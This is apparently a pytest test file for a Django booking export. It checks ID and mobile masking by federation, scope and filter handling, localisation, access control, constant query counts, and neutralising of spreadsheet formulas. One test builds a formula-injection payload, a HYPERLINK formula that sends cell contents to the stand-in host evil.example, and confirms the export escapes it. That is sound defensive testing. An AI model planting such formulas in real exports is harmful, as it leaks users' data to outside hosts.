"""The bookings as .xlsx and .csv (sanatoriums.views.booking_export, through
members.exports): one row per participant and a row for a group with no one named yet, the
list's filters and the user's scope, ID and mobile numbers in full only for staff of the
participant's own federation, every cell formula-safe, and the same few queries however
many groups there are."""

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from members.masking import mask_id_number, mask_mobile
from members.spreadsheets import FORMULA_STARTS
from sanatoriums import services
from sanatoriums.models import Booking, Participant
from sanatoriums.views import BOOKING_PAGE_SIZE
from tests.factories import MemberFactory
from tests.members.test_exports import table
from tests.sanatoriums.factories import BatchFactory, RouteFactory, allocate

pytestmark = pytest.mark.django_db

EXPORT = reverse("sanatoriums:bookings_export")


@pytest.fixture(autouse=True)
def english(client):
    """Headers in English, to name the columns; one test asks for Chinese."""
    client.cookies["django_language"] = "en"


@pytest.fixture
def bookings(
    places_batch, hz_staff, nb_staff, hz_org, nb_org, wz_org, hz_member, nb_members, wz_base
):
    """At a 杭州 base that 宁波 recognises: a 杭州 group with one member, a 宁波 group with
    two and a 宁波 group on the waiting list with no one named; and a 温州 group at 温州's
    own base (outside 杭州's and 宁波's scope)."""
    hz_group = services.booking_create(
        actor=hz_staff,
        batch=places_batch,
        organisation=hz_org,
        headcount=10,
        members=[hz_member],
        contact_name="杭州领队",
    )
    nb_group = services.booking_create(
        actor=nb_staff,
        batch=places_batch,
        organisation=nb_org,
        headcount=10,
        members=nb_members[:2],
    )
    waiting = Booking.objects.create(
        batch=places_batch, organisation=nb_org, headcount=3, status=Booking.Status.WAITING
    )
    wz_batch = BatchFactory(route=RouteFactory(sanatorium=wz_base))
    allocate(wz_batch, wz_base.federation, 20)
    wz_member = MemberFactory(organisation=wz_org, name="温州会员")
    wz_group = Booking.objects.create(
        batch=wz_batch, organisation=wz_member.organisation, headcount=1
    )
    Participant.objects.create(booking=wz_group, member=wz_member)
    return {"hz": hz_group, "nb": nb_group, "waiting": waiting, "wz": wz_group}


def people(rows):
    """{participant's name (or the group's organisation when no one is named): row}."""
    header = rows[0]
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    return {r["Participant"] or f"({r['Organisation']} {r['Status']})": r for r in records}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_staff_see_their_own_participants_in_full_and_the_partners_masked(
    client, hz_staff, bookings, hz_member, nb_members, fmt
):
    client.force_login(hz_staff)
    rows = people(table(client.get(EXPORT, {"as": fmt})))
    partner = nb_members[0]
    assert set(rows) == {
        hz_member.name,
        partner.name,
        nb_members[1].name,
        f"({bookings['waiting'].organisation.name} waiting list)",
    }  # 温州's group is outside the scope
    own = rows[hz_member.name]
    assert own["Resident ID number"] == hz_member.id_number
    assert own["Mobile number"] == hz_member.mobile
    assert own["Member card number"] == hz_member.card_number
    assert own["Group leader"] == "杭州领队" and own["Headcount"] in (10, "10")
    assert rows[partner.name]["Resident ID number"] == mask_id_number(partner.id_number)
    assert rows[partner.name]["Mobile number"] == mask_mobile(partner.mobile)
    assert partner.id_number not in str(rows) and partner.mobile not in str(rows)
    unnamed = rows[f"({bookings['waiting'].organisation.name} waiting list)"]
    assert (unnamed["Resident ID number"], unnamed["Headcount"]) in (("", 3), ("", "3"))


def test_the_partners_staff_see_theirs_in_full_and_ours_masked(
    client, nb_staff, bookings, hz_member, nb_members
):
    client.force_login(nb_staff)
    rows = people(table(client.get(EXPORT, {"as": "csv"})))
    assert rows[nb_members[0].name]["Resident ID number"] == nb_members[0].id_number
    assert rows[hz_member.name]["Resident ID number"] == mask_id_number(hz_member.id_number)
    assert rows[hz_member.name]["Mobile number"] == mask_mobile(hz_member.mobile)


def test_leaders_see_every_number_masked(client, hz_leader, bookings, hz_member):
    client.force_login(hz_leader)
    rows = people(table(client.get(EXPORT)))
    assert rows[hz_member.name]["Resident ID number"] == "1101**********002X"
    assert rows[hz_member.name]["Mobile number"] == "138****5678"


def test_the_outsider_exports_only_their_own(client, wz_staff, bookings):
    client.force_login(wz_staff)
    rows = people(table(client.get(EXPORT)))
    assert set(rows) == {"温州会员"}
    assert (
        rows["温州会员"]["Resident ID number"] == bookings["wz"].participants.get().member.id_number
    )


def test_the_export_follows_the_lists_filters(client, hz_staff, bookings, hz_member, nb_members):
    client.force_login(hz_staff)
    rows = people(table(client.get(EXPORT, {"federation": "HZ"})))
    assert set(rows) == {hz_member.name}
    rows = people(table(client.get(EXPORT, {"status": "waiting", "as": "csv"})))
    assert [r["Participant"] for r in rows.values()] == [""]
    rows = people(table(client.get(EXPORT, {"federation": "NB", "status": "pending"})))
    assert set(rows) == {m.name for m in nb_members[:2]}


def test_the_headers_are_in_the_users_language(client, hz_staff, bookings):
    client.force_login(hz_staff)
    client.cookies["django_language"] = "zh-hans"
    rows = table(client.get(EXPORT, {"as": "csv"}))
    assert rows[0][:2] == ["市总工会", "所属组织"]
    assert any("身份证号码" in header for header in rows[0])


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formulas_are_neutralised(client, hz_staff, places_batch, hz_org, start, fmt):
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    member = MemberFactory(organisation=hz_org, name=evil)
    services.booking_create(
        actor=hz_staff,
        batch=places_batch,
        organisation=hz_org,
        headcount=10,
        members=[member],
        contact_name=evil,
    )
    client.force_login(hz_staff)
    header, row = table(client.get(EXPORT, {"as": fmt}))
    record = dict(zip(header, row, strict=True))
    expected = "'" + evil
    if fmt == "xlsx":
        expected = expected.replace("\r", "\n")  # XML reads a carriage return back as \n
    assert record["Participant"] == expected and record["Group leader"] == expected


def test_the_list_links_to_its_export_with_its_filters(client, hz_staff, bookings):
    client.force_login(hz_staff)
    page = client.get(reverse("sanatoriums:bookings"), {"status": "waiting"}).text
    assert f"{EXPORT}?status=waiting&amp;as=xlsx" in page


def test_judges_may_not_export_and_visitors_sign_in(client, hz_judge):
    assert client.get(EXPORT).url.startswith(reverse("login"))
    client.force_login(hz_judge)
    assert client.get(EXPORT).status_code == 403


def test_the_export_reads_in_a_constant_number_of_queries(
    client, hz_staff, places_batch, hz_org, django_assert_num_queries
):
    def group():
        booking = Booking.objects.create(batch=places_batch, organisation=hz_org, headcount=2)
        for member in MemberFactory.create_batch(2, organisation=hz_org):
            Participant.objects.create(booking=booking, member=member)

    group()
    client.force_login(hz_staff)
    with CaptureQueriesContext(connection) as one_group:
        assert len(table(client.get(EXPORT, {"as": "csv"}))) == 3
    for _ in range(BOOKING_PAGE_SIZE + 2):
        group()
    with django_assert_num_queries(len(one_group.captured_queries)):
        rows = table(client.get(EXPORT, {"as": "csv"}))
    assert len(rows) == 1 + 2 * (BOOKING_PAGE_SIZE + 3)
